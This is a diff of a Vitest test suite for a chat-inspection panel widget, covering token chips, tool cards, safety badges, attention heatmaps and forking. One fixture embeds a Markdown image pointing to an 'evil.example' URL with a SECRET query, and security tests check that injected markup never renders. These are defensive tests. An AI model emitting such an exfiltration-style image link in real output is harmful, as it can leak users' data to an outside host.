@@ -1,38 +1,44 @@
-import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
-import widget from "../src/index";
-import { toolCard } from "../src/views/tools";
-import { safetyBadge } from "../src/views/safety";
+import { describe, expect, it, vi } from "vitest";
 import { summarize } from "../src/state";
-import type { ChatEvent, SafetyDecision, TurnRecord } from "../src/types";
+import type { AttentionRequest, ChatEvent, SafetyDecision, TurnRecord } from "../src/types";
+import { safetyBadge } from "../src/views/safety";
+import { toolCard } from "../src/views/tools";
 import { baseTraits, FakeModel } from "./fake_model";
-import { FIX, completedOf, tokensOf } from "./helpers";
+import { completedOf, FIX, tokensOf } from "./helpers";
+import { usePanelPage } from "./mount";
 
 const tokenHexOf = (fx: TurnRecord, id: number) => fx.pieces[String(id)][1].replace(/(..)(?!$)/g, "$1 ");
 
-let host: HTMLElement;
-let cleanup: (() => void) | null = null;
-
-beforeEach(() => {
-  host = document.createElement("div");
-  document.body.appendChild(host);
-  vi.spyOn(console, "error").mockImplementation(() => {}); // jsdom: canvas getContext is not implemented
-});
-afterEach(() => {
-  cleanup?.();
-  cleanup = null;
-  host.remove();
-  vi.useRealTimers();
-  vi.restoreAllMocks();
-});
-
-function mount(traits: Record<string, unknown>) {
-  const model = new FakeModel(baseTraits(traits));
-  cleanup = widget.render({ model, el: host });
-  return model;
-}
-const q = (id: string) => host.querySelector(`[data-testid="${id}"]`) as HTMLElement;
+const page = usePanelPage();
+const { mount, q } = page;
 const last = (m: FakeModel) => m.sent[m.sent.length - 1];
-const qa = (id: string) => host.querySelectorAll(`[data-testid="${id}"]`);
+/** The last message the view sent, which must be an attention request. */
+function lastAttentionRequest(m: FakeModel): AttentionRequest {
+  const { content } = last(m);
+  if (content.type !== "attention") throw new Error(`expected an attention request, the view sent ${content.type}`);
+  return content;
+}
+/** The kernel's reply to an attention request on answer.json (38 prompt tokens): the mean over heads of a layer,
+ * an n × n matrix of the sequence's first n positions. */
+function answerAttention(requestId: string, layer: number, n: number) {
+  return {
+    type: "attention",
+    request_id: requestId,
+    turn_id: FIX.answer.turn_id,
+    layer,
+    head: -1,
+    mode: "tokens",
+    shape: [n, n],
+    dtype: "float16",
+    tokens: n,
+    prompt_tokens: 38,
+    pool: 1,
+    rows_range: [0, n],
+    cols_range: [0, n],
+    segments: [],
+  };
+}
+const qa = (id: string) => page.host.querySelectorAll(`[data-testid="${id}"]`);
 
 describe("render from the turns trait", () => {
   it("draws every turn's chips, tool card, badges and the block message", () => {
@@ -41,17 +47,19 @@ describe("render from the turns trait", () => {
     expect(qa("token").length).toBe(total);
     expect(qa("tool-card").length).toBe(2); // one in the text view, one in the tokens view
     expect(q("title").textContent).toBe("Capitals");
-    expect(host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
-    expect(host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe("2");
-    expect(host.querySelector(".cf-block-msg")!.textContent).toContain("This was blocked by the safety policy (S9 Indiscriminate Weapons).");
-    const redactedTurn = host.querySelector(`[data-turn="${FIX.redacted.turn_id}"]`)!;
+    expect(page.host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
+    expect(page.host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe("2");
+    expect(page.host.querySelector(".cf-block-msg")!.textContent).toContain(
+      "This was blocked by the safety policy (S9 Indiscriminate Weapons).",
+    );
+    const redactedTurn = page.host.querySelector(`[data-turn="${FIX.redacted.turn_id}"]`)!;
     expect(redactedTurn.querySelector(".cf-span-orig")!.textContent).toBe("jane.doe@example.com");
     expect(redactedTurn.querySelector(".cf-span-repl")!.textContent).toBe("[EMAIL]");
   });
 
   it("the tool card sits between the tokens around the pause, in both views", () => {
     mount({ turns: [FIX.tool] });
-    const [inTokens, inText] = [".cf-answer-tokens", ".cf-answer-text"].map((sel) => host.querySelector(sel)!);
+    const [inTokens, inText] = [".cf-answer-tokens", ".cf-answer-text"].map((sel) => page.host.querySelector(sel)!);
     for (const box of [inTokens, inText]) {
       const card = box.querySelector('[data-testid="tool-card"]')!;
       expect(box.firstElementChild).toBe(card); // the call came before token 0
@@ -65,7 +73,9 @@ describe("render from the turns trait", () => {
   it("context tab draws the bar from the last round and the exact prompt", () => {
     mount({ turns: [FIX.tool] });
     const bar = q("context-bar");
-    const widths = Object.fromEntries([...bar.children].map((c) => [c.getAttribute("data-kind"), parseFloat((c as HTMLElement).style.width)]));
+    const widths = Object.fromEntries(
+      [...bar.children].map((c) => [c.getAttribute("data-kind"), parseFloat((c as HTMLElement).style.width)]),
+    );
     expect(widths.tools).toBeCloseTo((266 / 8192) * 100, 2);
     expect(widths.generated).toBeCloseTo(((34 + 9) / 8192) * 100, 2); // the call's 34 tokens, then the answer's 9
     const prompt = q("prompt-tokens");
@@ -78,7 +88,11 @@ describe("safety badges and tool cards", () => {
   const decisions = (f: TurnRecord) => f.events.filter((e): e is SafetyDecision => e.type === "safety_decision");
   it("one badge per decision, by layer and action", () => {
     const badges = decisions(FIX.redacted).map(safetyBadge);
-    expect(badges.map((b) => `${b.dataset.layer}:${b.dataset.action}`)).toEqual(["input:redact", "model:allow", "output:allow"]);
+    expect(badges.map((b) => `${b.dataset.layer}:${b.dataset.action}`)).toEqual([
+      "input:redact",
+      "model:allow",
+      "output:allow",
+    ]);
     expect(badges[0].textContent).toContain("redact");
     expect(badges[0].title).toContain("pii:email");
     const blocked = decisions(FIX.blocked).map(safetyBadge);
@@ -107,11 +121,11 @@ describe("security", () => {
     mount({ turns: [{ ...FIX.tool, events, pieces }], title: evil, error: evil });
     for (const tab of ["context", "attention", "timeline", "safety"]) (q(`tab-${tab}`) as HTMLButtonElement).click();
     q("token").dispatchEvent(new MouseEvent("click", { bubbles: true }));
-    expect(host.querySelectorAll("img").length).toBe(0);
-    expect(host.querySelectorAll("[onerror], [src]").length).toBe(0);
-    expect(host.innerHTML).not.toMatch(/>[^<]*<img/); // never as markup between tags
+    expect(page.host.querySelectorAll("img").length).toBe(0);
+    expect(page.host.querySelectorAll("[onerror], [src]").length).toBe(0);
+    expect(page.host.innerHTML).not.toMatch(/>[^<]*<img/); // never as markup between tags
     expect(q("token").textContent).toBe(evil);
-    expect(host.querySelector(".cf-user-text")!.textContent).toBe(evil);
+    expect(page.host.querySelector(".cf-user-text")!.textContent).toBe(evil);
     expect(q("tool-card").textContent).toContain(evil);
     expect(q("title").textContent).toBe(evil);
   });
@@ -123,17 +137,22 @@ describe("fake model: live stream, controls and messages", () => {
     const model = mount({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" });
     expect(model.sent[0].content).toEqual({ type: "resume", turn_id: fx.turn_id, after: -1 });
     for (let i = 0; i < fx.events.length; i += 5) {
-      model.message({ type: "events", turn_id: fx.turn_id, events: fx.events.slice(Math.max(0, i - 2), i + 5), pieces: fx.pieces });
+      model.message({
+        type: "events",
+        turn_id: fx.turn_id,
+        events: fx.events.slice(Math.max(0, i - 2), i + 5),
+        pieces: fx.pieces,
+      });
     }
     expect(qa("token").length).toBe(tokensOf(fx).length);
     expect([...qa("token")].map((c) => c.textContent).join("")).toBe(completedOf(fx).text);
-    expect(host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe(String(fx.events.length - 1));
+    expect(page.host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe(String(fx.events.length - 1));
     // the kernel moves the turn into `turns`: nothing is drawn twice
     model.traits.live = null;
     model.set("turns", [fx]);
     model.set("status", "idle");
     expect(qa("token").length).toBe(tokensOf(fx).length);
-    expect(host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
+    expect(page.host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
   });
 
   it("out-of-order batches redraw the turn in sequence order", () => {
@@ -146,9 +165,13 @@ describe("fake model: live stream, controls and messages", () => {
 
   it("resume after the events a view already has", () => {
     const fx = FIX.answer;
-    const model = new FakeModel(baseTraits({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" }));
-    cleanup = widget.render({ model, el: host });
-    expect(model.sent.filter((m) => m.content.type === "resume")).toEqual([{ content: { type: "resume", turn_id: fx.turn_id, after: -1 }, buffers: undefined }]);
+    const model = new FakeModel(
+      baseTraits({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" }),
+    );
+    page.render(model);
+    expect(model.sent.filter((m) => m.content.type === "resume")).toEqual([
+      { content: { type: "resume", turn_id: fx.turn_id, after: -1 }, buffers: undefined },
+    ]);
   });
 
   it("Stop sends {type: stop} while generating; Send and Enter send the text", () => {
@@ -185,7 +208,9 @@ describe("fake model: live stream, controls and messages", () => {
     }
     expect(model.sent.filter((m) => m.content.type === "draft")).toEqual([]);
     vi.advanceTimersByTime(300);
-    expect(model.sent.filter((m) => m.content.type === "draft").map((m) => m.content)).toEqual([{ type: "draft", text: "What" }]);
+    expect(model.sent.filter((m) => m.content.type === "draft").map((m) => m.content)).toEqual([
+      { type: "draft", text: "What" },
+    ]);
     model.set("status", "generating");
     input.value = "What is";
     input.dispatchEvent(new Event("input"));
@@ -195,11 +220,11 @@ describe("fake model: live stream, controls and messages", () => {
 
   it("settings form writes the settings trait and saves", () => {
     const model = mount({});
-    const temp = host.querySelector('input[name="temperature"]') as HTMLInputElement;
+    const temp = page.host.querySelector('input[name="temperature"]') as HTMLInputElement;
     temp.value = "0.7";
     temp.dispatchEvent(new Event("change"));
     expect(model.traits.settings).toMatchObject({ temperature: 0.7, top_p: 0.9 });
-    const python = host.querySelector('input[name="tool-python"]') as HTMLInputElement;
+    const python = page.host.querySelector('input[name="tool-python"]') as HTMLInputElement;
     python.checked = true;
     python.dispatchEvent(new Event("change"));
     expect((model.traits.settings as { tools: string[] }).tools).toEqual(["calculator", "python"]);
@@ -209,10 +234,12 @@ describe("fake model: live stream, controls and messages", () => {
   it("fork from a token alternative of the latest idle turn", () => {
     const model = mount({ turns: [FIX.answer] });
     q("token").dispatchEvent(new MouseEvent("click", { bubbles: true }));
-    const fork = [...host.querySelectorAll(".cf-popover button")].find((b) => b.textContent === "regenerate from here") as HTMLButtonElement;
+    const fork = [...page.host.querySelectorAll(".cf-popover button")].find(
+      (b) => b.textContent === "regenerate from here",
+    ) as HTMLButtonElement;
     fork.click();
     expect(last(model).content).toEqual({ type: "fork", turn_id: FIX.answer.turn_id, index: 0, token_id: 504 });
-    expect(host.querySelector(".cf-alt-cut")).not.toBeNull();
+    expect(page.host.querySelector(".cf-alt-cut")).not.toBeNull();
   });
 
   it("attention request → float16 buffer → heatmap with data-render-ms; other views' replies ignored", () => {
@@ -220,41 +247,43 @@ describe("fake model: live stream, controls and messages", () => {
     (q("tab-attention") as HTMLButtonElement).click();
     (q("attention-layer") as HTMLSelectElement).value = "3";
     (q("attention-show") as HTMLButtonElement).click();
-    const req = last(model).content;
+    const req = lastAttentionRequest(model);
     expect(req).toMatchObject({ type: "attention", turn_id: FIX.answer.turn_id, layer: 3, head: -1, mode: "tokens" });
     const n = 50;
     const bits = new Uint16Array(n * n).fill(0x3c00);
-    const msg = { type: "attention", request_id: req.request_id, turn_id: FIX.answer.turn_id, layer: 3, head: -1, mode: "tokens", shape: [n, n], dtype: "float16", tokens: n, prompt_tokens: 38, pool: 1, rows_range: [0, n], cols_range: [0, n], segments: [] };
+    const msg = answerAttention(req.request_id, 3, n);
     model.message({ ...msg, request_id: "someone-else" }, [new DataView(bits.buffer)]);
     expect(q("heatmap").hasAttribute("data-render-ms")).toBe(false);
     model.message(msg, [new DataView(bits.buffer)]);
     expect(q("heatmap").getAttribute("data-render-ms")).not.toBeNull();
     expect((q("heatmap") as HTMLCanvasElement).width).toBe(n);
     // hovering generated token 2 marks its row (38 + 2)
-    const chip = host.querySelector('[data-testid="token"][data-index="2"]')!;
+    const chip = page.host.querySelector('[data-testid="token"][data-index="2"]')!;
     chip.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
-    const marker = host.querySelector(".cf-heat-row-marker") as HTMLElement;
+    const marker = page.host.querySelector(".cf-heat-row-marker") as HTMLElement;
     expect(marker.hidden).toBe(false);
     expect(parseFloat(marker.style.top)).toBeCloseTo((40 / 50) * 100, 5);
   });
 
   it("error notice shows and dismisses; cleanup removes listeners", () => {
     const model = mount({ error: "Tool 'python' is not enabled." });
-    const notice = host.querySelector(".cf-notice") as HTMLElement;
+    const notice = page.host.querySelector(".cf-notice") as HTMLElement;
     expect(notice.hidden).toBe(false);
     (notice.querySelector("button") as HTMLButtonElement).click();
     expect(notice.hidden).toBe(true);
-    cleanup!();
-    cleanup = null;
+    page.unmount();
     expect(model.listeners("msg:custom")).toBe(0);
-    expect(host.querySelector(".cf-root")).toBeNull();
+    expect(page.host.querySelector(".cf-root")).toBeNull();
   });
 });
 
 describe("answers: rendered text, or tokens", () => {
   it("shows the answer as rendered Markdown by default, the chips one click away", () => {
     const answer = "Compare:\n\n```python\nif a < b:\n    print('<b>')\n```\n\n![x](https://evil.example/?q=SECRET)";
-    const events = FIX.answer.events.map((e): ChatEvent => (e.type === "token" && e.index === 0 ? { ...e, text: answer } : e.type === "token" ? { ...e, text: "" } : e));
+    const events = FIX.answer.events.map(
+      (e): ChatEvent =>
+        e.type === "token" && e.index === 0 ? { ...e, text: answer } : e.type === "token" ? { ...e, text: "" } : e,
+    );
     mount({ turns: [{ ...FIX.answer, events }] });
     const stream = q("conversation");
     expect(stream.getAttribute("data-view")).toBe("text");
@@ -271,40 +300,54 @@ describe("answers: rendered text, or tokens", () => {
   it("a stopped turn says [stopped], as the magic and the CLI do", () => {
     const fx = FIX.answer;
     const done = completedOf(fx);
-    const cancelled = { type: "cancelled", sequence_number: done.sequence_number, turn_id: fx.turn_id, timestamp: done.timestamp, text: done.text, usage: {}, timings: {} } as ChatEvent;
+    const cancelled = {
+      type: "cancelled",
+      sequence_number: done.sequence_number,
+      turn_id: fx.turn_id,
+      timestamp: done.timestamp,
+      text: done.text,
+      usage: {},
+      timings: {},
+    } as ChatEvent;
     mount({ turns: [{ ...fx, events: fx.events.map((e) => (e.type === "completed" ? cancelled : e)) }] });
     expect(q("stopped").textContent).toBe("[stopped]");
-    expect(host.querySelector(".cf-turn-foot")!.textContent).toContain("stopped");
-    expect(host.textContent).not.toContain("cancelled");
+    expect(page.host.querySelector(".cf-turn-foot")!.textContent).toContain("stopped");
+    expect(page.host.textContent).not.toContain("cancelled");
   });
 });
 
 describe("the panel keeps its place", () => {
   it("tab, answer view, selected token, open popover and open tool card survive a turn's end", () => {
     const live = FIX.answer;
-    const model = mount({ turns: [FIX.tool], live: { turn_id: live.turn_id, prewarm: null, fork_of: "" }, status: "generating" });
-    const root = host.querySelector(".cf-root");
+    const model = mount({
+      turns: [FIX.tool],
+      live: { turn_id: live.turn_id, prewarm: null, fork_of: "" },
+      status: "generating",
+    });
+    const root = page.host.querySelector(".cf-root");
     model.message({ type: "events", turn_id: live.turn_id, events: live.events.slice(0, -3), pieces: live.pieces });
     (q("tab-safety") as HTMLButtonElement).click();
     (q("view-tokens") as HTMLButtonElement).click();
-    const chip = host.querySelector(`[data-testid="token"][data-turn="${live.turn_id}"][data-index="1"]`) as HTMLElement;
+    const chip = page.host.querySelector(
+      `[data-testid="token"][data-turn="${live.turn_id}"][data-index="1"]`,
+    ) as HTMLElement;
     chip.dispatchEvent(new MouseEvent("click", { bubbles: true }));
     expect(q("popover").hidden).toBe(false);
-    expect(host.querySelectorAll('[data-testid="fork"]').length).toBe(0); // still generating: no fork yet
-    const card = host.querySelector(".cf-answer-tokens [data-testid='tool-card']") as HTMLDetailsElement;
+    expect(page.host.querySelectorAll('[data-testid="fork"]').length).toBe(0); // still generating: no fork yet
+    const card = page.host.querySelector(".cf-answer-tokens [data-testid='tool-card']") as HTMLDetailsElement;
     card.setAttribute("open", "");
     // the turn ends: its last events come, then the kernel moves it into `turns`
     model.message({ type: "events", turn_id: live.turn_id, events: live.events.slice(-3), pieces: live.pieces });
     model.traits.live = null;
     model.set("turns", [FIX.tool, live]);
     model.set("status", "idle");
-    expect(host.querySelector(".cf-root")).toBe(root); // nothing rebuilt
+    expect(page.host.querySelector(".cf-root")).toBe(root); // nothing rebuilt
     expect(q("tab-safety").getAttribute("aria-selected")).toBe("true");
     expect(q("conversation").getAttribute("data-view")).toBe("tokens");
     expect(q("popover").hidden).toBe(false);
     expect(q("popover").textContent).toContain(live.pieces[String(tokensOf(live)[1].token_id)][0]);
-    expect(host.querySelectorAll('[data-testid="fork"]').length).toBeGreaterThan(0); // now it can fork
-    expect(host.querySelector(".cf-tok-selected")).toBe(chip);
+    expect(page.host.querySelectorAll('[data-testid="fork"]').length).toBeGreaterThan(0); // now it can fork
+    expect(page.host.querySelector(".cf-tok-selected")).toBe(chip);
     expect(card.isConnected && card.hasAttribute("open")).toBe(true);
     // (the scroll position is checked in the browser: tests/test_e2e_panel.py)
   });
@@ -317,7 +360,7 @@ describe("the panel keeps its place", () => {
     vi.useFakeTimers();
     for (const tab of ["timeline", "safety", "context"]) {
       (q(`tab-${tab}`) as HTMLButtonElement).click();
-      const panel = host.querySelector(".cf-panel")!;
+      const panel = page.host.querySelector(".cf-panel")!;
       expect(panel.textContent).not.toContain("calculator");
       expect(panel.textContent).not.toContain("17 * 23");
     }
@@ -329,15 +372,31 @@ describe("token popover", () => {
   it("says which setting cut each alternative, and labels both probabilities", () => {
     mount({ turns: [FIX.tool] });
     (q("view-tokens") as HTMLButtonElement).click();
-    host.querySelector('[data-testid="token"][data-index="2"]')!.dispatchEvent(new MouseEvent("click", { bubbles: true }));
+    page.host
+      .querySelector('[data-testid="token"][data-index="2"]')!
+      .dispatchEvent(new MouseEvent("click", { bubbles: true }));
     const pop = q("popover");
-    expect([...pop.querySelectorAll("th")].map((t) => t.textContent)).toEqual(["alternative", "probability", "after sampling", ""]);
+    expect([...pop.querySelectorAll("th")].map((t) => t.textContent)).toEqual([
+      "alternative",
+      "probability",
+      "after sampling",
+      "",
+    ]);
     const reasons = [...pop.querySelectorAll('[data-testid="cut-reason"]')].map((r) => r.textContent);
     // token 2 of tool.json: top-p 0.9 kept only the first; the second was the model's favourite (53 %) until the
     // repetition penalty lowered it
-    expect(reasons).toEqual(["cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9", "cut by top-p 0.9"]);
-    expect(pop.textContent).toContain("sampled with temperature 0.2, top-k 0, top-p 0.9, min-p 0, repetition-penalty 1.1");
-    const bytes = [...pop.querySelectorAll("dd")][[...pop.querySelectorAll("dt")].findIndex((d) => d.textContent === "bytes")];
+    expect(reasons).toEqual([
+      "cut by top-p 0.9 (the repetition penalty lowered it)",
+      "cut by top-p 0.9 (the repetition penalty lowered it)",
+      "cut by top-p 0.9",
+      "cut by top-p 0.9",
+    ]);
+    expect(pop.textContent).toContain(
+      "sampled with temperature 0.2, top-k 0, top-p 0.9, min-p 0, repetition-penalty 1.1",
+    );
+    const bytes = [...pop.querySelectorAll("dd")][
+      [...pop.querySelectorAll("dt")].findIndex((d) => d.textContent === "bytes")
+    ];
     expect(bytes.className).toContain("cf-nowrap"); // hex bytes on one line
     expect(bytes.textContent).toBe(tokenHexOf(FIX.tool, tokensOf(FIX.tool)[2].token_id));
   });
@@ -360,11 +419,11 @@ describe("attention", () => {
   it("is drawn without a click for a short finished turn, with token labels on both axes and a colour scale", () => {
     const model = mount({ turns: [FIX.answer] });
     (q("tab-attention") as HTMLButtonElement).click();
-    const req = last(model).content;
+    const req = lastAttentionRequest(model);
     expect(req).toMatchObject({ type: "attention", turn_id: FIX.answer.turn_id, mode: "tokens" });
     const n = 50; // 38 prompt + 12 generated
     const bits = new Uint16Array(n * n).fill(0x3c00);
-    model.message({ type: "attention", request_id: req.request_id, turn_id: FIX.answer.turn_id, layer: 31, head: -1, mode: "tokens", shape: [n, n], dtype: "float16", tokens: n, prompt_tokens: 38, pool: 1, rows_range: [0, n], cols_range: [0, n], segments: [] }, [new DataView(bits.buffer)]);
+    model.message(answerAttention(req.request_id, 31, n), [new DataView(bits.buffer)]);
     const rows = [...q("attention-rows").children].map((c) => c.textContent);
     const cols = [...q("attention-top").children].map((c) => c.textContent);
     expect(rows.length).toBe(25); // 50 > 48 labels: every second token
@@ -403,12 +462,20 @@ describe("popover", () => {
     const model = mount({ turns: [FIX.answer] });
     (q("view-tokens") as HTMLButtonElement).click();
     q("token").dispatchEvent(new MouseEvent("click", { bubbles: true }));
-    const button = host.querySelector('[data-testid="fork"]');
+    const button = page.host.querySelector('[data-testid="fork"]');
     expect(button).not.toBeNull();
     const done = completedOf(FIX.answer);
-    const title = { type: "title_generated", sequence_number: done.sequence_number + 1, turn_id: FIX.answer.turn_id, timestamp: done.timestamp + 1, title: "Paris", latency_ms: 900, source: "model" } as ChatEvent;
+    const title = {
+      type: "title_generated",
+      sequence_number: done.sequence_number + 1,
+      turn_id: FIX.answer.turn_id,
+      timestamp: done.timestamp + 1,
+      title: "Paris",
+      latency_ms: 900,
+      source: "model",
+    } as ChatEvent;
     model.message({ type: "events", turn_id: FIX.answer.turn_id, events: [title], pieces: {} }); // a late title
     model.set("title", "Paris");
-    expect(host.querySelector('[data-testid="fork"]')).toBe(button);
+    expect(page.host.querySelector('[data-testid="fork"]')).toBe(button);
   });
 });
